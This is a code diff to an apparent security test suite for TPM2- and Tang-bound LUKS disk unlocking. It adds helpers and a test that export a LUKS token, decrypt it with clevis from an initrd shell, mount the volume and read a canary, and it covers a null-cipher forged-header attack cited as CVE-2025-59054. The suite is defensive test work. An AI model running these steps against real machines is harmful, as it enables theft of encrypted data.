@@ -22,6 +22,8 @@ from harness.api import (
     Machine,
     Sealed,
     Seat,
+    Sss,
+    TangPin,
     Tpm2Pin,
     Unlock,
     Workshop,
@@ -44,37 +46,43 @@ SEALS = {0: 7, 1: 8, 2: 9}
 
 EACH_PCR = Enrolment("root-each-pcr", pins=tuple(Tpm2Pin((pcr,), "sha256", f"pcr{pcr}") for pcr in SEALS.values()))
 
+TPM2_AND_TANG = Enrolment(
+    "root-tpm2-and-tang", (Sss(2, (Tpm2Pin(), TangPin("tang", "@TANG_URL@", "@TANG_THUMBPRINT@"))),)
+)
+
 GRUB_CFG = "/grub/grub.cfg"
 INITRAMFS_SHELL = r"\(initramfs\) "
 ROOT = "/dev/nvme0n1p4"
 
 
-def asks_the_tpm(console: Seat, attacker: Attacker, device: str = ROOT, seals: Mapping[int, int] = SEALS) -> set[int]:
-    """At a shell of an initrd: have the TPM unseal each token as the initrd's own script does, and open the volume.
+def unsealed(console: Seat, device: str, token: int) -> bool:
+    """At a shell of an initrd: decrypt a token as the initrd's own script does; says whether a keyslot opens by it.
 
-    Returns:
-        The PCRs whose tokens gave him the canary.
+    The passphrase stays in /run/pass.
     """
-    deadline = Deadline.after(300)
-    console.run("export DM_DISABLE_UDEV=1", deadline)  # no udev runs in an initrd of his own
-    unsealed: set[int] = set()
-    for token, pcr in seals.items():
-        jwe = f"cryptsetup token export --token-id {token} {device} | jose fmt -j- -Og jwe -o- | jose jwe fmt -i- -c"
-        ask = f"{jwe} | tr -d '\\n' | clevis decrypt >/run/{pcr} 2>/dev/null"
-        test = f"cryptsetup open --test-passphrase --key-file /run/{pcr} {device}"
-        if "it opens" in console.run(
-            f"{ask} && {test} && cp /run/{pcr} /run/pass && echo it opens", deadline, check=False
-        ):
-            unsealed.add(pcr)
-    console.run(f"cryptsetup open --key-file /run/pass {device} loot", deadline, check=False)
-    console.run("mkdir -p /loot && mount -o ro /dev/mapper/loot /loot", deadline, check=False)
-    canary = re.search(
-        r"^[0-9a-f]{32}", console.run("cat /loot/unlock-lab-canary", deadline, check=False), re.MULTILINE
-    )
+    jwe = f"cryptsetup token export --token-id {token} {device} | jose fmt -j- -Og jwe -o- | jose jwe fmt -i- -c"
+    ask = f"{jwe} | tr -d '\\n' | clevis decrypt >/run/said 2>/dev/null"
+    test = f"cryptsetup open --test-passphrase --key-file /run/said {device}"
+    said = console.run(f"{ask} && {test} && cp /run/said /run/pass && echo it opens", Deadline.after(120), check=False)
+    return "it opens" in said
+
+
+def canary(console: Seat, device: str) -> str | None:
+    """Open a volume by /run/pass, and read its canary."""
+    deadline = Deadline.after(120)
+    # No udev runs in an initrd of his own, which is to make the node.
+    opens = f"DM_DISABLE_UDEV=1 cryptsetup open --key-file /run/pass {device} loot"
+    console.run(f"{opens} && mkdir -p /loot && mount -o ro /dev/mapper/loot /loot", deadline, check=False)
+    said = re.search(r"^[0-9a-f]{32}", console.run("cat /loot/unlock-lab-canary", deadline, check=False), re.MULTILINE)
+    return said[0] if said else None
+
+
+def asks_the_tpm(console: Seat, attacker: Attacker, device: str = ROOT, seals: Mapping[int, int] = SEALS) -> set[int]:
+    """Try each token, and print the canary he read; says the PCRs whose tokens gave him the secret."""
+    opened = {pcr for token, pcr in seals.items() if unsealed(console, device, token)}
+    read = canary(console, device)
     loot = {
-        pcr: attacker.prints(
-            canary[0] if canary and pcr in unsealed else None, guard=f"tpm2-pcr{pcr}", evidence="console-console.log"
-        )
+        pcr: attacker.prints(read if pcr in opened else None, guard=f"tpm2-pcr{pcr}", evidence="console-console.log")
         for pcr in seals.values()
     }
     return {pcr for pcr, got in loot.items() if got.extracted}
@@ -196,6 +204,32 @@ def test_unbound_token_leads_to_a_shell(attacker: Attacker) -> None:
     with attacker.console(disk=disk) as console:
         console.wait_for(INITRAMFS_SHELL, Deadline.after(420))
         assert asks_the_tpm(console, attacker, seals={1: 8, 2: 9}) == {8, 9}
+
+
+@pytest.mark.policy(TPM2_AND_TANG)
+@pytest.mark.image("debian-12-initramfs")
+@pytest.mark.attack(Grant.MACHINE, Grant.NETWORK)
+def test_null_cipher_header(attacker: Attacker) -> None:
+    """A look-alike root with the genuine token: its keyslot is encrypted by no cipher, so every passphrase opens it.
+
+    The attacker does not know what TPM and Tang will say, and need not: the volume key behind the keyslot is his own.
+    So his root is opened by itself, with nothing typed, in the genuine boot chain and at home, where both pins answer.
+    What is in it is his as well; here it is nothing, so that the initrd drops to a shell, and to that shell the genuine
+    disk, plugged in, gives its canary.
+
+    Granted: the machine, in the victim's network. Extracted by cryptsetup 2.6.1-4~deb12u2. Cure: cryptsetup 2.8.1 (not
+    shown here), or a kernel without that cipher (`test_null_cipher_header_is_refused_by_a_kernel_without_the_cipher`).
+    Source: CVE-2025-59054.
+    """
+    slot = attacker.header("root").tokens[0].keyslots[0]
+    with attacker.console(disk=attacker.forged("root", partial(forgery.null_cipher, keyslot=slot))) as console:
+        said = console.wait_for("root: (set up successfully|cryptsetup failed)", Deadline.after(300))
+        assert said == "root: set up successfully"
+        console.wait_for(INITRAMFS_SHELL, Deadline.after(300))
+        console.plug(attacker.disk())
+        console.run("until [ -b /dev/vda4 ]; do sleep 1; done", Deadline.after(60))
+        assert unsealed(console, "/dev/vda4", token=0)
+        assert attacker.prints(canary(console, "/dev/vda4"), evidence="console-console.log").extracted
 
 
 def initrd_is_another(machine: Machine, _workshop: Workshop) -> Machine:
